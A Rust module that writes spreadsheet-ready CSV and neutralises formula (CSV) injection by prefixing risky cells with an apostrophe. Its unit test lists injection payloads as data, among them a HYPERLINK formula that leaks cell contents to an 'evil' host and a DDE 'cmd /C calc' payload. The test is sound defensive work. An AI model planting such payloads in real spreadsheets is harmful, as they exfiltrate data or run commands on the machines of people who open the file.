//! CSV for spreadsheet programs: UTF-8 with a byte-order mark (without it
//! Excel reads UTF-8 as the ANSI code page and Cyrillic turns to garbage),
//! the title and provenance on the first lines, then the tables.
//!
//! With `;` between cells (what a Russian-locale spreadsheet expects) the
//! numbers get a decimal comma too, so they stay numbers there. A blank line
//! stays blank, and a cell is quoted only where a spreadsheet needs it.

use super::document::{Block, Cell, Document};

const BOM: &[u8] = b"\xEF\xBB\xBF";

pub fn write(doc: &Document, delimiter: u8) -> Vec<u8> {
    let decimal_comma = delimiter == b';';
    let show = |c: &Cell| c.display(&doc.tr, decimal_comma);
    let mut rows: Vec<Vec<String>> = vec![vec![doc.heading()]];
    for f in &doc.meta {
        rows.push(vec![f.label.clone(), show(&f.value)]);
    }
    match &doc.csv_merge {
        Some(first) => {
            let tables: Vec<(&str, &super::document::Table)> = doc
                .sections
                .iter()
                .flat_map(|s| {
                    s.blocks.iter().filter_map(move |b| match b {
                        Block::Table(t) => Some((s.title.as_str(), t)),
                        _ => None,
                    })
                })
                .collect();
            rows.push(Vec::new());
            if let Some((_, t)) = tables.first() {
                rows.push(
                    std::iter::once(first.header.clone())
                        .chain(t.columns.iter().map(|c| c.header.clone()))
                        .collect(),
                );
            }
            for (title, t) in tables {
                for r in &t.rows {
                    rows.push(
                        std::iter::once(title.to_string())
                            .chain(r.iter().map(show))
                            .collect(),
                    );
                }
            }
        }
        None => {
            for s in &doc.sections {
                rows.push(Vec::new());
                rows.push(vec![s.title.clone()]);
                for (i, b) in s.blocks.iter().enumerate() {
                    if i > 0 {
                        rows.push(Vec::new());
                    }
                    if let Some(t) = b.title() {
                        rows.push(vec![t.to_string()]);
                    }
                    match b {
                        Block::Table(t) => {
                            rows.push(t.columns.iter().map(|c| c.header.clone()).collect());
                            rows.extend(t.rows.iter().map(|r| r.iter().map(show).collect()));
                        }
                        Block::Fields { fields, .. } => {
                            rows.extend(
                                fields.iter().map(|f| vec![f.label.clone(), show(&f.value)]),
                            );
                        }
                        Block::Text { text, .. } => {
                            rows.extend(text.lines().map(|l| vec![l.to_string()]));
                        }
                    }
                }
            }
        }
    }
    let mut out = BOM.to_vec();
    for r in &rows {
        for (i, c) in r.iter().enumerate() {
            if i > 0 {
                out.push(delimiter);
            }
            write_cell(&mut out, c, delimiter);
        }
        out.extend_from_slice(b"\r\n");
    }
    out
}

/// A cell a spreadsheet would run as a formula, made plain text: one that
/// begins with `=`, `+`, `-`, `@`, a tab or a carriage return and is not a
/// number gets a `'` in front (the OWASP advice on CSV injection). Numbers,
/// negative ones too, with a decimal point or comma, stay numbers.
pub fn defused(cell: &str) -> std::borrow::Cow<'_, str> {
    let risky = cell
        .chars()
        .next()
        .is_some_and(|c| matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r'));
    let number = cell
        .replace(',', ".")
        .parse::<f64>()
        .is_ok_and(f64::is_finite);
    if risky && !number {
        format!("'{cell}").into()
    } else {
        cell.into()
    }
}

/// One cell, quoted only where a spreadsheet needs it: when it holds the
/// delimiter or a line break, or begins with a quote. A quote inside an
/// unquoted cell is read as itself, so the regulation's TOML lines
/// (`id = "rural"`) and names like `ТОС "Наш дом"` are written as they are,
/// not with their quotes doubled.
fn write_cell(out: &mut Vec<u8>, cell: &str, delimiter: u8) {
    let cell = &*defused(cell);
    let needs_quotes = cell
        .bytes()
        .any(|b| b == delimiter || b == b'\n' || b == b'\r')
        || cell.starts_with('"');
    if needs_quotes {
        out.push(b'"');
        out.extend_from_slice(cell.replace('"', "\"\"").as_bytes());
        out.push(b'"');
    } else {
        out.extend_from_slice(cell.as_bytes());
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_become_text_and_numbers_stay_numbers() {
        for (cell, want) in [
            (
                "=HYPERLINK(\"http://evil/?\"&A1,\"x\")",
                "'=HYPERLINK(\"http://evil/?\"&A1,\"x\")",
            ),
            ("+7 914 000-00-00", "'+7 914 000-00-00"),
            ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t=1"),
            ("-3.5", "-3.5"),
            ("-3,5", "-3,5"),
            ("+2", "+2"),
            ("Иванова", "Иванова"),
            ("", ""),
        ] {
            assert_eq!(defused(cell), want, "{cell}");
        }
    }
}
